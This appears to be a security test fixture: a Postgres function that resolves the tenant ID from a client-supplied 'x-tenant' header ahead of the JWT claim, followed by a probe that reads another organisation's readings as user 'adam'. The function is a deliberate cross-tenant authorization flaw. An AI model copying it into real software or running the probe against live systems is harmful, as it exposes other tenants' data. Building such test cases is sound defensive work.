-- channel: claims
-- object: internal.tenant_id
-- says: The tenant switcher sends a header, and the header wins over the claim.
create or replace function internal.tenant_id()
returns uuid
language sql stable
set search_path = ''
as $$
    select coalesce(
        nullif(current_setting('request.headers', true), '')::json ->> 'x-tenant',
        auth.jwt() -> 'app_metadata' ->> 'tenant_id'
    )::uuid
$$;
-- exploit as adam with {"headers": {"x-tenant": "{org_b}"}}
select from public.readings where tenant_id = :org_b;
-- leaks when rows
